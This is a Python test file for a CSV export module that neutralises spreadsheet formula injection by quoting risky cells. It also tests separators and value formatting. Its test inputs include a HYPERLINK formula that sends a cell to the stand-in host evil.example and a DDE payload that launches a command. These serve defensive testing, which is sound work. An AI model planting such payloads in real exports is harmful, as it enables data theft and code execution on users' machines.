from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from generation.export.csv_lines import csv_header, csv_line, harmless


def read(record: dict[str, Any]) -> dict[str, str]:
    """The cells of a record's line, by column, as a reader of CSV has them."""
    lines = (csv_header(content=True) + csv_line(record, content=True)).decode()
    (row,) = csv.DictReader(io.StringIO(lines, newline=""))
    return row


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\ttext",
        "\rtext",
        "  =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\x00=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹦1",
    ],
    ids=ascii,
)
def test_a_text_is_no_formula_when_it_looks_like_one(text: str) -> None:
    assert read({"text": text})["text"] == "'" + text


@pytest.mark.parametrize("text", ["", "Hello", "1-2", "a=b", "'=1", "चाय", "“=”", "日本"])
def test_a_text_stays_as_it_is_when_no_spreadsheet_runs_it(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("text", ['a,"b"\r\nc', "one\ntwo", "a\x00b", "zwj 👩‍👩‍👧", "; | \u2028"])
def test_a_text_is_one_cell_when_it_has_separators(text: str) -> None:
    assert read({"text": text})["text"] == text


def test_every_column_of_text_is_defused_when_it_is_a_strangers() -> None:
    record = {
        "user": "=u", "model": "@m", "error": "+e", "upstream_id": "-i", "stop_string": "=s",
        "reviews": [{"label": "=l", "score": None, "comment": "=c"}],
    }  # fmt: skip
    cells = {name: cell for name, cell in read(record).items() if cell}
    assert cells == {
        "user": "'=u", "model": "'@m", "error": "'+e", "upstream_id": "'-i", "stop_string": "'=s", "labels": "'=l",
    }  # fmt: skip


def test_values_are_told_as_such_when_they_are_no_text() -> None:
    record = {
        "id": 7,
        "ttft_visible_s": -0.25,
        "has_text": True,
        "log_incomplete": False,
        "holds": {"stop": {"count": 2, "size": 5, "total_s": 0.5, "longest_s": 0.25}},
        "reviews": [{"label": "good", "score": 5}, {"label": "", "score": 0}, {"label": "long", "score": None}],
        "messages": [{"role": "user", "content": "=चाय?"}],
    }
    cells = {name: cell for name, cell in read(record).items() if cell}
    assert cells == {
        "id": "7",
        "ttft_visible_s": "-0.25",
        "has_text": "true",
        "log_incomplete": "false",
        "hold_stop_count": "2",
        "hold_stop_size": "5",
        "hold_stop_total_s": "0.5",
        "hold_stop_longest_s": "0.25",
        "labels": "good long",
        "scores": "5 0",
        "messages": '[{"role": "user", "content": "=चाय?"}]',
    }


def test_half_of_a_pair_is_spelled_out_when_a_text_holds_one() -> None:
    assert read({"text": "a\ud83d"})["text"] == "a\\ud83d"


def test_there_are_no_columns_of_content_when_it_is_left_out() -> None:
    names = csv_header(content=False).decode().rstrip("\r\n").split(",")
    assert not {"text", "messages", "parameters", "stop_string", "tool_calls", "text_sha256"} & set(names)
    assert {"id", "user", "ttft_visible_s", "hold_utf8_total_s", "labels"} <= set(names)
